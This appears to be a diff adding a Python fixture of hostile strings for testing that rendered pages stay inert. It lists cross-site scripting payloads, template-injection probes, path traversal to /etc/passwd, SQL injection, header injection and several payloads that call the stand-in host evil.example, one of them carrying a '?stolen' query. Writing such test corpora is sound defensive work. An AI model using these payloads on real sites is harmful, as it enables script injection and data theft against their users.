@@ -1,0 +1,68 @@
+"""Texts that a model, a file or a person may give and that no page may run."""
+
+from itertools import product
+
+_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin")
+_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "b", "a")
+_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:")
+_WHOLE = (
+    "<script>pwned()</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "</script><script>pwned()</script>",
+    "</title><script>pwned()</script>",
+    "</textarea><script>pwned()</script>",
+    "</select><script>pwned()</script>",
+    "--><script>pwned()</script><!--",
+    "]]><script>pwned()</script>",
+    '"><script>pwned()</script>',
+    "'><script>pwned()</script>",
+    '" onmouseover="pwned()',
+    "' onmouseover='pwned()",
+    '" autofocus onfocus=pwned() x="',
+    "<style>*{background:url(//evil.example)}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
+    "<iframe src=//evil.example></iframe>",
+    "<object data=//evil.example/x.swf></object>",
+    "<embed src=//evil.example/x.svg>",
+    "<form action=//evil.example><button>Sign in</button></form>",
+    "<template><script>pwned()</script></template>",
+    "<math><mtext><script>pwned()</script></mtext></math>",
+    "<svg><script>pwned()</script></svg>",
+    "<svg><animate onbegin=pwned() attributeName=x></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()></svg>#x'></svg>",
+    "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
+    "{{ 7 * 7 }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "${7*7}",
+    "<%= 7 * 7 %>",
+    "%3Cscript%3Epwned()%3C/script%3E",
+    "&lt;script&gt;pwned()&lt;/script&gt;",
+    "&#60;script&#62;pwned()&#60;/script&#62;",
+    "\u202e<script>pwned()</script>",
+    "a\u200bb\u2066c\u2069",
+    "\x07\x1b[31mred\x1b[0m",
+    "../../../etc/passwd",
+    "..%2f..%2fhealth",
+    "a/b/../../c?d=e#f",
+    "https://evil.example/",
+    "//evil.example/",
+    "\\\\evil.example\\share",
+    '=HYPERLINK("http://evil.example")',
+    "Robert'); DROP TABLE runs;--",
+    "\r\nSet-Cookie: a=b",
+    "<!DOCTYPE html><html><body>",
+    "<img src='//evil.example/" + "x" * 3000 + "'>",
+    "<" * 2000,
+    "𝕊𝕔𝕣𝕚𝕡𝕥 ﷽ Z̷͔̈́a̵͙͝l̶̬̿g̸̦̓o̸",
+    "[x](javascript:pwned())",
+    "![x](//evil.example/?stolen)",
+)
+
+HOSTILE: tuple[str, ...] = (
+    *_WHOLE,
+    *(f"<{tag} {handler}=pwned()>" for tag, handler in product(_TAGS, _HANDLERS)),
+    *(f"<a href='{scheme}pwned()'>x</a>" for scheme in _SCHEMES),
+)
